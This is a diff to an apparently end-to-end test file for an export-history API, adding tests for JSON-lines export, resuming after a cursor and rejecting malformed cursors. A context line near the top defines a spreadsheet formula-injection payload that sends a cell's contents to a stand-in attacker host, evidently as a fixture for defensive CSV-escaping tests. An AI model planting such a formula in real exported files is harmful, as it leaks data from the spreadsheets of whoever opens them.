@@ -9,11 +9,12 @@ const formula = '=HYPERLINK("https://evil.example/?"&A1,"open me"), "quoted"';
 test.describe.configure({ mode: 'serial' });
 test.beforeAll(({ tenant }) => tenant.reset());
 
+/** The rows of the file newest first, as the screen has them; the file itself begins with the oldest. */
 async function exported(door: APIRequestContext, query = ''): Promise<Record<string, string>[]> {
   const answer = await door.get(`/api/exports/history${query}`);
   expect(answer.status()).toBe(200);
   expect(answer.headers()['content-type']).toBe('text/csv; charset=utf-8');
-  return readCsv(await answer.text());
+  return readCsv(await answer.text()).reverse();
 }
 
 async function filters(page: Page, by: Record<string, string>): Promise<void> {
@@ -98,6 +99,48 @@ test('filters are in the URL, and screen and export follow them alike', async ({
   await auden.page.waitForURL(/\/history$/);
   await filters(auden.page, { 'Role or scope': '100%_nothing' });
   await expect(auden.page.getByText('Nothing matches')).toBeVisible();
+});
+
+test('as JSON lines it is the same file, and either goes on after any of its lines', async ({ auden }) => {
+  await auden.visits('/history?status=denied');
+  const link = auden.page.getByRole('link', { name: 'Export JSON lines' });
+  const denied = (await link.getAttribute('href')) ?? '';
+  expect(denied).toBe('/api/exports/history?status=denied&format=jsonl');
+  const door = auden.context.request;
+  const linesAt = async (path: string) => {
+    const answer = await door.get(path);
+    expect(answer.headers()['content-type']).toBe('application/x-ndjson; charset=utf-8');
+    return (await answer.text()).split('\n').filter(Boolean);
+  };
+  const parsed = (lines: string[]) => lines.map((line) => JSON.parse(line) as Record<string, string>);
+  expect(new Set(parsed(await linesAt(denied)).map(({ status }) => status))).toEqual(new Set(['Denied']));
+
+  const lines = await linesAt('/api/exports/history?format=jsonl');
+  const rows = parsed(lines).reverse();
+  const file = await exported(door);
+  expect(rows.map(({ cursor }) => cursor)).toEqual(file.map(({ cursor }) => cursor));
+  expect(rows.find(({ ticket = '' }) => ticket.includes('2+3'))?.ticket).toBe('-2+3');
+  const after = `after=${parsed(lines)[0]?.cursor}`;
+  expect(await linesAt(`/api/exports/history?format=jsonl&${after}`)).toEqual(lines.slice(1));
+  const whole = await (await door.get('/api/exports/history')).text();
+  const rest = await (await door.get(`/api/exports/history?${after}`)).text();
+  expect(rest).not.toBe('');
+  expect(whole.endsWith(`\r\n${rest}`)).toBe(true);
+
+  const record = parsed(await linesAt('/api/exports/audit?action=history.exported'));
+  // The last is this very reading of the record.
+  expect(record.at(-2)).toMatchObject({ details: { format: 'csv', after: after.slice('after='.length) } });
+});
+
+test('an export that cannot go on from there says so, and never begins anew', async ({ auden }) => {
+  for (const path of [
+    ...['history?after=', 'history?after=yesterday', 'history?format=xml', 'audit?after=', 'audit?after=-1'],
+    'history?after=2026-03-01T00:00:00.000Z_0d4b3a52',
+  ]) {
+    const answer = await auden.context.request.get(`/api/exports/${path}`);
+    expect([path, answer.status()]).toEqual([path, 400]);
+    expect(await answer.text()).toMatch(/names no place|csv or jsonl/);
+  }
 });
 
 test('others see and export their own rows only, and no trace of who exported', async ({ ada }) => {
